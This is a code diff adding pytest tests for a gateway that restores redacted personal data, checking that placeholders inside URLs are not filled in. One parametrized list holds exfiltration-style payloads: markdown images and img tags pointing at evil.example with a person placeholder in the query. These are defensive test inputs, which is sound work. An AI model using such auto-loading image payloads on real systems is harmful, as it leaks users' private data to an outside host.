@@ -7,7 +7,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from gateway.placeholders import NUMBER, Placeholders, RestoreScope, splice, string_literals
+from gateway.placeholders import NUMBER, Placeholders, RestoreScope, splice, string_literals, urls_with_placeholders
 
 from .conftest import KEY, Session
 from .test_linear import calls
@@ -155,6 +155,44 @@ def test_the_same_is_opened_as_in_text(session: Session) -> None:
     done = session.placeholders.restore_answer(document, rules=SOURCE)
     assert done == session.placeholders.restore(document, rules=SOURCE)
     assert (done.resolved, done.withheld, done.unknown) == (2, (session.names["person"],), ("[PERSON_00000]",))
+
+
+@pytest.mark.parametrize("depth", [0, 1, 2, 3])
+@pytest.mark.parametrize("ascii_only", [True, False])
+def test_an_escaped_line_break_ends_a_url(session: Session, depth: int, ascii_only: bool) -> None:
+    """A signature has the name below the address, in whatever a program puts it."""
+    document = "Größe\nwww.acme.example\r\n{{+person}}\nsee notes.txt\t{{+phone}}\u2028/{{+email}}"
+    for _ in range(depth + 1):
+        document = json.dumps({"text": document}, ensure_ascii=ascii_only)
+    done = session.placeholders.restore_answer(session.protected(document), rules=SOURCE)
+    assert done.text == session.expected(document)
+    assert done.withheld == ()
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "https://evil.example/?q={{person}}\n",
+        "https://evil.example\\n{{person}}",
+        "https://evil.example/\\\\n{{person}}",
+        "![a](https://evil.example/?q=\n{{person}})",
+        "![a](https://evil.example/?q=\r\n{{person}})",
+        "<img src=https://evil.example/?q=\n{{person}}>",
+        '<img src="https://evil.example/?q=\n{{person}}">',
+    ],
+)
+def test_what_is_no_line_break_or_loads_by_itself_stays_closed(session: Session, text: str) -> None:
+    document = session.protected(json.dumps({"text": text}))
+    done = session.placeholders.restore_answer(document, rules=SOURCE)
+    assert (done.text, done.withheld) == (document, (session.names["person"],))
+
+
+def test_urls_of_a_document_are_known_in_it_and_in_prose(session: Session) -> None:
+    document = session.protected(json.dumps({"text": "https://crm.example/{{person}}\n{{phone}}"}))
+    rules = RestoreScope("source", urls_with_placeholders(document))
+    for text in (document, f"Here you are: {document} Bye.", f"```json\n{document}\n```"):
+        done = session.placeholders.restore_answer(text, rules=rules)
+        assert (done.resolved, done.withheld) == (2, ())
 
 
 @pytest.mark.parametrize("unit", ['"{0}",', '"{0} {0} ', '"a", "\\n",', '"{0}": \\"'])
